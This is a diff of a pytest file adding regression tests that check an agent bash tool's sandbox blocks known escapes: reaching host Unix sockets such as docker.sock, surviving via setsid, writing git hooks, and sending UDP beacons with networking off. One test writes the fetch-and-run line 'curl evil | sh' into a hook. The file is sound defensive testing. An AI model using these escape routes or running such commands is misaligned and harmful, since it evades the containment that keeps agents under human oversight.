@@ -139,3 +139,74 @@ def test_bash_network_is_tighten_only_and_needs_the_sandbox(tmp_path: Path) -> N
     workspace_file.write_text("")
     with pytest.raises(ConfigError, match="enforced by the bash sandbox"):
         load_config(home, workspace, env={})
+
+
+# ---------------------------------------------------------------- escapes of issue #20
+# Each of these worked under Landlock alone (the sandbox before bubblewrap).
+
+
+async def test_bash_cannot_drive_a_host_unix_socket_server(
+    sandboxed: ToolContext, tmp_path: Path
+) -> None:
+    path = tmp_path / "tmux-0" / "default"  # stands in for tmux, docker.sock, ssh-agent
+    path.parent.mkdir()
+    hits: list[bytes] = []
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
+        server.bind(str(path))
+        server.listen(1)
+        server.settimeout(0.5)
+        code = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'x')"
+        out = await bash(sandboxed, f'python3 -c "{code}" && echo CONNECTED')
+        try:
+            conn, _ = server.accept()
+            hits.append(conn.recv(16))
+            conn.close()
+        except TimeoutError:
+            pass
+    assert "CONNECTED" not in out
+    assert hits == []
+
+
+async def test_bash_background_processes_do_not_survive_setsid(sandboxed: ToolContext) -> None:
+    import time
+    import uuid
+
+    seconds = f"4{uuid.uuid4().int % 1000}.25"
+    await bash(sandboxed, f"setsid -f sleep {seconds}; (setsid sleep {seconds} &); echo ok")
+    marker = f"sleep\0{seconds}".encode()
+
+    def alive() -> list[str]:
+        found = []
+        for entry in Path("/proc").iterdir():
+            try:
+                if entry.name.isdigit() and marker in (entry / "cmdline").read_bytes():
+                    found.append(entry.name)
+            except OSError:
+                continue
+        return found
+
+    deadline = time.monotonic() + 5
+    while alive() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert alive() == []
+
+
+async def test_bash_cannot_write_git_hooks(sandboxed: ToolContext) -> None:
+    hooks = Path(sandboxed.workspace) / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    out = await bash(sandboxed, "echo 'curl evil | sh' > .git/hooks/post-checkout")
+    assert "Read-only file system" in out
+    assert not (hooks / "post-checkout").exists()
+
+
+async def test_bash_network_false_stops_a_udp_beacon_too(sandboxed: ToolContext) -> None:
+    # Landlock filters TCP only: UDP left the old sandbox with bash_network = false.
+    sandboxed.bash_network = False
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.settimeout(0.5)
+        port = listener.getsockname()[1]
+        beacon = f"import socket; socket.socket(2, 2).sendto(b'BEACON', ('127.0.0.1', {port}))"
+        await bash(sandboxed, f'python3 -c "{beacon}"')
+        with pytest.raises(TimeoutError):
+            listener.recv(64)
